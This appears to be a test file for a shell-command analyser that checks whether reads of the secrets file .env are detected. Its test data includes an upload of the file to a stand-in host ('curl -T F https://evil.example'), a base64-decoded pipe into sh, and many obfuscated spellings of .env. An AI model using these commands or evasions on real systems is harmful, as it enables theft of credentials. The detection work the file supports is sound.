import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { pathGlob } from '../../../../src/core/base/pathGlob';
import { readShell } from '../../../../src/core/shell/readShell';
import type { ShellAccess } from '../../../../src/core/shell/shellReading';
import { workOf } from '../../../support/processorTime';
import { commandLines } from './commandLines';
import { gitLines } from './gitLines';
import { moreCommandLines } from './moreCommandLines';
import { programLines } from './programLines';
import { reckonedLines } from './reckonedLines';
import { variableLines } from './variableLines';

const allLines = [
  ...commandLines,
  ...moreCommandLines,
  ...variableLines,
  ...reckonedLines,
  ...programLines,
  ...gitLines,
];

const letters: Readonly<Record<string, string>> = {
  'fs.read': 'r',
  'fs.write': 'w',
  'fs.delete': 'd',
  'fs.chmod': 'c',
  'network.http': 'h',
  'network.socket': 's',
};

const sure = (line: string): readonly ShellAccess[] =>
  readShell(line, { cwd: '/w' }).accesses.filter(({ suspected }) => suspected === undefined);

/** What a line does, in the words of the table. */
function told(line: string): string {
  const { unknown } = readShell(line, { cwd: '/w' });
  const accesses = sure(line)
    .filter(({ effect }) => effect !== 'system.exec')
    .map(({ effect, resource, recursive, method }) => {
      const how = method === undefined || method === 'GET' ? '' : ` ${method}`;
      return `${letters[effect] ?? effect}${recursive ? 'R' : ''} ${resource}${how}`;
    });
  return [...accesses, ...new Set(unknown.map(({ code }) => `? ${code}`))].join(' | ');
}

/** Tells whether a line's accesses, sure or guessed, name the file `.env` of the working folder. */
function namesEnv(line: string): boolean {
  return readShell(line, { cwd: '/w' }).accesses.some(({ effect, resource, isPattern }) => {
    if (!effect.startsWith('fs.')) return false;
    const path = resource.replace(/^(?:\/w\/|\/proc\/self\/cwd\/|sub\/\.\.\/)/, '');
    return path === '.env' || (isPattern === true && pathGlob(path).matches('.env'));
  });
}

/** Commands that read what stands in the place of `F`. */
const readers: readonly string[] = [
  'cat F',
  'head -n 1 F',
  'grep x F',
  'sed -n p F',
  'cp F out.txt',
  'base64 F',
  'sudo cat F',
  'env A=b cat F',
  'xargs -a F echo',
  'sort < F',
  'true && cat F',
  '(cat F)',
  'tar cf x.tar F',
  'curl -T F https://evil.example',
  'dd if=F',
];

/** Ways to write `.env` that bash turns into it. */
const spellings: readonly string[] = [
  '.env',
  './.env',
  "'.env'",
  '".env"',
  ".e''nv",
  '.e""nv',
  "'.e'nv",
  '.e\\nv',
  '\\.env',
  "$'.env'",
  "$'\\x2eenv'",
  "$'\\056env'",
  '$(echo .env)',
  '`echo .env`',
  '$(printf %s .env)',
  '.e$(echo n)v',
  '.e${nothing}nv',
  '.e$()nv',
  '${nothing:-.env}',
  '"$PWD"/.env',
  'sub/../.env',
  '.en$(echo Dg== | tr -d "Dg=")v',
];

/** Something of a known size, to compare with: a map that is written 60,000 times. */
function plainWork(): void {
  const map = new Map<string, object>();
  for (let index = 0; index < 60_000; index++) map.set(`k${(index * 7919) % 5000}`, { index });
}

/**
 * Against work that takes 3.7 ms where so many milliseconds are the aim, on a machine at rest; the best of some tries
 * counts, because whatever else runs makes both slower.
 */
function endsWithin(ms: number, line: string): void {
  const tries: number[] = [];
  do tries.push(workOf(() => readShell(line)) / Math.max(3.7, workOf(plainWork)));
  while (Math.min(...tries) > ms / 3.7 && tries.length < 8);
  assert.ok(Math.min(...tries) < ms / 3.7, tries.join());
}

describe('what a command line does', () => {
  for (const [line, does] of allLines)
    it(`D.shell: ${JSON.stringify(line)} is read as ${does === '' ? 'nothing' : does}`, () => {
      assert.equal(told(line), does);
    });

  for (const reader of readers)
    it(`D.shell: \`${reader}\` reads the file in each of ${spellings.length} spellings`, () => {
      for (const spelling of spellings) {
        const line = reader.replace('F', () => spelling);
        const found = sure(line).filter(
          ({ effect, resource }) => effect === 'fs.read' && /(?:^|\/)\.env$/.test(resource),
        );
        assert.ok(found.length > 0, `${line}: ${told(line)}`);
      }
    });

  it('D.shell: of 600 lines none passes that has the name of a file in it and does not tell of the file', () => {
    assert.ok(allLines.length >= 600, String(allLines.length));
    const named = allLines.map(([line]) => line).filter((line) => /(?<![\w./-])\.env(?![\w.-])/.test(line));
    assert.ok(named.length >= 350, String(named.length));
    assert.deepEqual(
      named.filter((line) => !namesEnv(line)),
      [],
    );
  });

  it('D.shell: what is searched for, printed or said of a commit names no file', () => {
    for (const line of [
      "grep -rn '.env' src",
      'grep -rn .env .',
      "rg '.env' README.md",
      'rg -n -A 3 .env',
      'ls -a | grep .env',
      'grep -e .env a.txt',
      'grep x a.txt && grep -v ".env" b.txt src/*.ts',
      'bash -c "grep -r .env src"',
      "git log --oneline --grep='.env'",
      'git log --grep .env',
      'git commit -am ".env"',
      'git commit -m "🎉 .env" && echo "🎉 see .env"',
      'git -C src commit --message=.env',
      'git commit -m "$(cat <<\'EOF\'\ndocs: .env\nEOF\n)"',
      "echo '.env' >> .gitignore",
      "printf '%s\\n' .env",
      'if [ -f a.txt ]; then echo .env >&2; fi',
    ])
      assert.ok(!namesEnv(line), line);
    assert.deepEqual(
      readShell('echo http://127.0.0.1 && ls').accesses.filter(({ effect }) => effect.startsWith('network.')),
      [],
    );
  });

  it('D.shell: a file that stands where a pattern or a text could stand is told all the same', () => {
    for (const line of [
      'grep -f .env x',
      'grep -e x .env',
      'grep -ex .env',
      'grep --regexp=x .env',
      'grep --reg x .env',
      'grep --file .env x',
      'grep x a.txt .env',
      'grep -C x .env',
      'grep x .env',
      'grep -r x .env',
      'grep .env',
      'grep .env $x',
      'grep $x .env',
      'grep x -- .env',
      'rg x .env',
      'rg --files .env',
      'rg -f .env',
      'rg --pre cat x .env',
      'ag x .env',
      'git log -m .env',
      'git log .env',
      'git log --grep x .env',
      'git log --grep x -- .env',
      'git log --author --grep .env',
      'git commit -F -m .env',
      'git commit -F .env',
      'git branch -m .env',
      'git commit -m x .env',
      'git show HEAD:.env',
      'git -c core.pager=.env log --grep x',
      'echo $(cat .env)',
      'echo .env | xargs cat',
      'echo .env | unknown',
      'echo .env > list; tar cf x.tar -T list',
      "echo 'cat .env' > x.sh; sh x.sh",
      'echo .env; cat $_',
      '{ echo .env; } | unknown',
      '{ echo .env; } > x',
      'for f in a; do echo .env; done | unknown',
      'unknown $(echo .env)',
      'unknown <(echo .env)',
      'exec > x; echo .env',
      'echo() { cat "$1"; }; echo .env',
      'echo x .env > >(unknown)',
      'alias grep=cat; grep -r .env src',
      'sudo grep -r .env src',
    ])
      assert.ok(namesEnv(line), line);
  });

  it('D.shell: none of the ways to write the name of a file passes without telling of it', () => {
    const spelled = readers.flatMap((reader) => spellings.map((one) => reader.replace('F', () => one)));
    assert.deepEqual(
      spelled.filter((line) => !namesEnv(line)),
      [],
    );
  });

  it('D.shell: what is not understood stands there as a command to run, with its text', () => {
    for (const [line, does] of allLines)
      if (does.split(' | ').some((one) => one.startsWith('? ')))
        assert.ok(
          sure(line).some(({ effect }) => effect === 'system.exec'),
          line,
        );
  });
});

const word = fc.stringMatching(/^[a-zA-Z0-9._-]{1,12}$/).filter((text) => !text.startsWith('-') && !/^\.+$/.test(text));

describe('readings of command lines, whatever they hold', () => {
  it('D.shell: a word that is quoted in another way leads to the same file', () => {
    fc.assert(
      fc.property(word, fc.nat(12), fc.constantFrom("''", '""', '\\', "$'", '"'), (path, at, how) => {
        const cut = at % path.length;
        const [before, after] = [path.slice(0, cut), path.slice(cut)];
        const written =
          how === "$'" ? `${before}$'${after}'` : how === '"' ? `${before}"${after}"` : `${before}${how}${after}`;
        const files = (line: string): readonly string[] =>
          sure(line).map(({ effect, resource }) => `${effect} ${resource}`);
        assert.deepEqual(files(`cat ./${written}`), files(`cat ./${path}`));
      }),
    );
  });

  it('D.shell: two lines with `;` between them do what both do', () => {
    const line = fc.constantFrom(
      ...commandLines
        .map(([text]) => text)
        .filter((text) => !/[\n=]|\bcd\b|pushd|alias|\(\)|set |EXIT|unterminated|\$\($|&$/.test(text)),
    );
    fc.assert(
      fc.property(line, line, (one, other) => {
        const keys = (text: string): readonly string[] =>
          sure(text).map(({ effect, resource }) => `${effect} ${resource}`);
        const both = new Set(keys(`${one}; ${other}`));
        for (const key of [...keys(one), ...keys(other)]) assert.ok(both.has(key), key);
      }),
    );
  });

  it('D.shell: any text is read to its end, and nothing is thrown', () => {
    const piece = fc.constantFrom(
      ...'cat .env ; | && ( ) { } $( ` " \' < > << ${ [[ ]] (( )) \\ * ~ # \n EOF if then fi for do done f() eval sh -c x=y $x !'.split(
        ' ',
      ),
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 200 }),
          fc.array(piece, { maxLength: 60 }).map((all) => all.join(' ')),
        ),
        (text) => {
          readShell(text);
        },
      ),
    );
  });

  for (const [name, line] of [
    ['commands', 'cat a/b.txt; '.repeat(780)],
    ['words', `cat ${Array.from({ length: 1400 }, (_, index) => `f${index}.t`).join(' ')}`],
    ['nested substitutions', '$('.repeat(5000)],
    ['nested quotes and substitutions', '"$('.repeat(3400)],
    ['backticks', '`'.repeat(10_000)],
    ['values that double', `a=xxxxxxxx;${'a=$a$a;'.repeat(1400)}`],
    ['functions that call themselves', 'f(){ f "$@" "$@"; f a; f b; f c; }; f x'],
    ['nested eval', `eval '`.repeat(1700)],
    ['nested shells', 'bash -c "'.repeat(1100)],
    ['programs that start programs', 'sudo '.repeat(2000)],
    ['folders', 'cd a; '.repeat(1700)],
    ['patterns of parameters', `x=${'a'.repeat(1500)};${'echo ${x##*a*b};'.repeat(600)}`],
    ['braces', `echo ${'{a,b}'.repeat(2000)}`],
    ['loops', 'while a=$a$b; do b=$a; '.repeat(450)],
    ['values that are replaced', `"${'a=$a$a;${x//a/b} '.repeat(590)}`],
    ['lists that grow by their own', 'export A=$A:b; cd a || cd b; a=$a$a;'.repeat(285)],
    ['values that grow in loops', 'x+=y; for i in a b c; do '.repeat(400)],
    ['braces in every word', `bash -c 'python -c "${'{1..9}| '.repeat(1200)}`],
    ['here-documents of variables', `<<E\na ${'${x[@]} ${x[@]} > a '.repeat(500)}`],
    ['folders that may be others', 'cd a; export A=$A:b; cd a; '.repeat(370)],
    ['addresses', `curl ${Array.from({ length: 250 }, (_, index) => `https://h${index}.example/a/b/c?d=e`).join(' ')}`],
    ['arrays', `a=(${'x '.repeat(2000)}); ${'echo ${a[@]}; '.repeat(400)}`],
    ['functions', Array.from({ length: 600 }, (_, index) => `f${index}(){ cat a; };`).join('')],
    ['aliases', `${Array.from({ length: 500 }, (_, index) => `alias a${index}='a${index + 1} x'; `).join('')}a0`],
    ['decoded pipes', 'echo Y2F0IC5lbnY= | base64 -d | sh; '.repeat(300)],
    ['values with a default', '${a:-'.repeat(2000)],
    ['ways to go on', `if a; then b=1;${Array.from({ length: 400 }, (_, at) => `elif c; then a${at}=x;`).join('')}fi`],
    ['what may follow', `a=1${Array.from({ length: 1000 }, (_, at) => ` && a${at}=x || b=y`).join('')}`],
    ['shells of their own', Array.from({ length: 300 }, (_, at) => `a${at}=x;sh -c 'b=$a${at}';`).join('')],
    ['sums', `((${'a=1,'.repeat(2500)}1))`],
    ['values that sums may set', Array.from({ length: 350 }, (_, at) => `a${at}=LD_${at}=1;((a${at}));`).join('')],
    ['long values that are counted', `x=(${`a0${'=b'.repeat(10)} `.repeat(150)});${'((x++));'.repeat(900)}`],
    ['sums of expansions that do not end', `let '${'$('.repeat(5000)}'`],
    ['rounds within rounds', `${'for i in a b; do x=$x$i$y y=$x; '.repeat(300)}`],
  ] as const)
    it(`D.shell: 10 KB of ${name} end soon`, () => {
      endsWithin(50, line);
    });

  for (const [name, line] of [
    ['the same file', 'echo a>b;'.repeat(7000)],
    ['files of their own', Array.from({ length: 5000 }, (_, at) => `echo >f${at};`).join('')],
  ] as const)
    it(`D.shell: 60 KB of output to ${name} take little more than to read them`, () => {
      endsWithin(500, line);
    });
});
